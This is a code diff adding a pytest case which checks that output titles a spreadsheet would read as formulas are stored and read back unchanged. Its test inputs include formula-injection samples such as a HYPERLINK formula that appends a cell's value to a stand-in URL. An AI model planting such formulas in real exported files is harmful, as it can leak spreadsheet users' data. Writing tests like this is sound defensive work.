@@ -120,6 +120,16 @@ def test_a_title_without_end_is_cut_to_what_readers_of_tables_take(
 
 
 @pytest.mark.parametrize("suffix", SUFFIXES)
+@pytest.mark.parametrize("title", ['=HYPERLINK("http://x/?"&A1)', "+1", "-1", "@SUM(A1)", "'=1"])
+def test_a_title_that_a_spreadsheet_takes_for_a_formula_is_data_and_stays_as_it_is(
+    tmp_path: Path, run: RunRecord, suffix: str, title: str
+) -> None:
+    row = dataclasses.replace(PREDICTION, title=title)
+    (read,) = round_trip(tmp_path / f"out{suffix}", [row], run)
+    assert read.title == title
+
+
+@pytest.mark.parametrize("suffix", SUFFIXES)
 def test_a_run_without_predictions_is_a_file_without_rows(
     tmp_path: Path, run: RunRecord, suffix: str
 ) -> None:
